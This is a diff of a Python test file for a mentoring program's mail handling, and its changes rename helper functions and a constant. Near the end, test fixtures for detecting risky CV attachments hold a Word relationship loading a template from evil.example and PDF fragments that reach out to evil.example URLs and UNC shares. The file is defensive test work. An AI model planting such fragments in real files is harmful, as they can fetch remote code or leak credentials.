@@ -50,7 +50,7 @@ from tests.shipped_rules import RULES
 # --- an old copy is put back, and numbers are given again -----------------------------------------------------
 
 
-def quotation(mail: OutboundMail) -> str:
+def quotation_below(mail: OutboundMail) -> str:
     quoted = "\n".join(f"> {line}" for line in see(mail).text.splitlines())
     return f"\n\nOn Mon, 2 Mar 2026 at 16:10, Mentor Exchange <{ADDRESS}> wrote:\n\n{quoted}"
 
@@ -65,7 +65,7 @@ def test_a_yes_to_a_lost_question_is_no_yes_to_the_one_that_has_its_number(
     copied.lose()
     copied.asks(LEA)
     sent = copied.world.reply(
-        JON, about_mia, "Accept, with pleasure!" + (quotation(about_mia) if whole else "")
+        JON, about_mia, "Accept, with pleasure!" + (quotation_below(about_mia) if whole else "")
     )
     assert not to(sent, LEA), subjects(sent)
     assert copied.pairs() == set()
@@ -77,7 +77,7 @@ def test_a_no_to_a_lost_question_refuses_nobody_else(kept: Copied) -> None:
     about_mia = kept.asks(MIA)
     kept.lose()
     kept.asks(LEA)
-    sent = kept.world.reply(JON, about_mia, "Reject" + quotation(about_mia))
+    sent = kept.world.reply(JON, about_mia, "Reject" + quotation_below(about_mia))
     assert kept.state() == "pending"
     assert to(sent, JON) or a_coordinator_knows(kept.world, sent)
 
@@ -98,7 +98,7 @@ def test_what_was_moved_back_in_another_order_makes_no_pair_that_nobody_wanted(k
         world.later(minutes=1)
     kept.release()
     world.work()
-    world.reply(JON, about_mia, "Accept, with pleasure!" + quotation(about_mia))
+    world.reply(JON, about_mia, "Accept, with pleasure!" + quotation_below(about_mia))
     assert LEA not in {mentee for _, mentee, _ in kept.pairs()}
 
 
@@ -109,7 +109,7 @@ def test_an_end_in_a_lost_thread_ends_no_other_mentoring(kept: Copied) -> None:
     kept.lose()
     world.reply(JON, kept.asks(LEA), "Accept")
     assert {state for _, _, state in kept.pairs()} == {"active"}
-    sent = world.reply(JON, introduced, "END" + quotation(introduced))
+    sent = world.reply(JON, introduced, "END" + quotation_below(introduced))
     assert {state for _, _, state in kept.pairs()} == {"active"}
     assert not to(sent, LEA)
     assert to(sent, JON) or a_coordinator_knows(world, sent)
@@ -204,7 +204,7 @@ def test_a_reply_to_a_mail_that_waits_for_a_coordinator_is_none_to_a_newer_one(k
 # --- a pair that is kept apart while something is under way ---------------------------------------------------
 
 
-def introduced(world: Attacked) -> list[str]:
+def who_was_introduced(world: Attacked) -> list[str]:
     return [m.recipient for m in world.player.post.sent if m.letter.startswith("introduction")]
 
 
@@ -215,7 +215,7 @@ def test_a_late_yes_is_offered_to_nobody_who_is_kept_apart() -> None:
     keep_apart(world)
     sent = world.reply(JON, asked, "ACCEPT")
     assert "late-offer" not in [m.letter for m in sent]
-    assert not introduced(world)
+    assert not who_was_introduced(world)
     assert to(sent, JON) or a_coordinator_knows(world, sent)
 
 
@@ -227,7 +227,7 @@ def test_a_late_offer_that_waits_introduces_nobody_who_is_kept_apart_meanwhile()
     assert offer.letter == "late-offer"
     keep_apart(world)
     sent = world.reply(MIA, offer, "ACCEPT")
-    assert not introduced(world)
+    assert not who_was_introduced(world)
     assert to(sent, MIA) or a_coordinator_knows(world, sent)
 
 
@@ -246,7 +246,7 @@ def test_a_yes_that_waits_for_was_it_you_pairs_nobody_who_is_kept_apart_meanwhil
     question = to(world.write(JON, "ACCEPT REQ-1", "ACCEPT REQ-1", proof=""), JON)[-1]
     keep_apart(world)
     sent = world.reply(JON, question, "YES")
-    assert not introduced(world)
+    assert not who_was_introduced(world)
     assert to(sent, JON) or a_coordinator_knows(world, sent)
 
 
@@ -255,7 +255,7 @@ def test_a_yes_that_a_coordinator_passes_on_pairs_nobody_who_is_kept_apart() -> 
     world.asked()
     keep_apart(world)
     sent = passes_on(world, f"Jon Berg <{JON}>", "ACCEPT REQ-1", "ACCEPT REQ-1")
-    assert not introduced(world)
+    assert not who_was_introduced(world)
     assert to(sent, COORDINATOR)
 
 
@@ -264,7 +264,7 @@ def test_a_mentor_who_makes_room_gets_nobody_who_is_kept_apart() -> None:
     asked = world.asked()
     keep_apart(world)
     sent = world.reply(JON, asked, "RAISE")
-    assert not introduced(world)
+    assert not who_was_introduced(world)
     assert to(sent, JON) or a_coordinator_knows(world, sent)
 
 
@@ -275,7 +275,7 @@ def test_a_no_that_turns_into_a_yes_pairs_nobody_who_is_kept_apart_meanwhile() -
     keep_apart(world)
     sent = world.reply(JON, asked, "Sorry, I meant ACCEPT")
     assert "late-offer" not in [m.letter for m in sent]
-    assert not introduced(world)
+    assert not who_was_introduced(world)
 
 
 def test_a_request_in_the_queue_asks_nobody_who_is_kept_apart_meanwhile() -> None:
@@ -301,7 +301,7 @@ def test_a_wait_that_was_agreed_on_comes_back_to_nobody_who_is_kept_apart_meanwh
         world.reply(MIA, offer[-1], "WAIT UNTIL 1 May")
     keep_apart(world)
     world.later(days=70)
-    assert not introduced(world)
+    assert not who_was_introduced(world)
     assert not [m for m in to(world.player.post.sent, JON) if m.letter == "late-offer"]
 
 
@@ -556,7 +556,7 @@ def test_a_late_yes_where_none_counts_any_more_is_not_met_with_silence() -> None
     policy(world, late_answer_days=0)
     sent = world.reply(JON, asked, "ACCEPT")
     assert to(sent, JON) or a_coordinator_knows(world, sent)
-    assert not introduced(world)
+    assert not who_was_introduced(world)
 
 
 def test_a_yes_to_was_it_you_counts_or_is_told_although_the_rules_say_hold_now() -> None:
@@ -681,7 +681,7 @@ def test_an_answer_in_a_language_that_the_program_writes_no_longer_first_is_hear
     world.player.rules = replace(rules, vocabularies=tuple(spanish))
     world.player.program = replace(world.player.program, language="es")
     world.player.set_up()
-    world.reply(JON, asked, "Accept, with pleasure!" + quotation(asked))
+    world.reply(JON, asked, "Accept, with pleasure!" + quotation_below(asked))
     assert world.state() == "accepted"
 
 
@@ -786,7 +786,7 @@ def test_a_roster_of_odd_signs_lets_in_whom_it_names_or_says_what_is_wrong(which
 # --- screening -----------------------------------------------------------------------------------------------------------
 
 
-def screened(world: Attacked, **when: object) -> None:
+def held_by_our_rule(world: Attacked, **when: object) -> None:
     rule = ScreeningRule(name="ours", when=when, then="hold", because="we want to see it")
     world.player.rules = replace(world.player.rules, screening=(rule, *world.player.rules.screening))
     world.player.set_up()
@@ -805,7 +805,7 @@ SENDERS = {
 @pytest.mark.parametrize("who", SENDERS)
 def test_a_rule_about_a_domain_holds_for_it_and_what_lies_below_and_for_nothing_else(who: str) -> None:
     world = Attacked()
-    screened(world, sender_domain="firm.example")
+    held_by_our_rule(world, sender_domain="firm.example")
     world.write(who, "SIGN UP MENTOR", FORM.format(name="Xenia Young"))
     assert any("we want to see it" in because for because in world.held()) == SENDERS[who]
 
@@ -856,7 +856,7 @@ def packed(**files: bytes) -> bytes:
 
 
 RELATED = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
-HAZARDS: Mapping[str, tuple[str, bytes]] = {
+OTHER_HAZARDS: Mapping[str, tuple[str, bytes]] = {
     "a thread of another file": ("cv.pdf", paper(b"/OpenAction<</S/Thread/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D 0>>")),
     "a stream that lies elsewhere": ("cv.pdf", paper(page=b"/Contents 9 0 R", more=b"9 0 obj<</Length 0/F<</FS/URL/F(https://evil.example/x)>>>>stream\n\nendstream endobj")),
     "a page of another file": ("cv.pdf", paper(more=b"9 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/Page 0>>/Length 0>>stream\n\nendstream endobj")),
@@ -871,9 +871,9 @@ HAZARDS: Mapping[str, tuple[str, bytes]] = {
 }  # fmt: skip
 
 
-@pytest.mark.parametrize("which", HAZARDS)
+@pytest.mark.parametrize("which", OTHER_HAZARDS)
 def test_a_cv_that_reaches_beyond_itself_is_not_passed_on(which: str) -> None:
-    name, content = HAZARDS[which]
+    name, content = OTHER_HAZARDS[which]
     assert hazard_of(name, "application/octet-stream", content) is not None
 
 
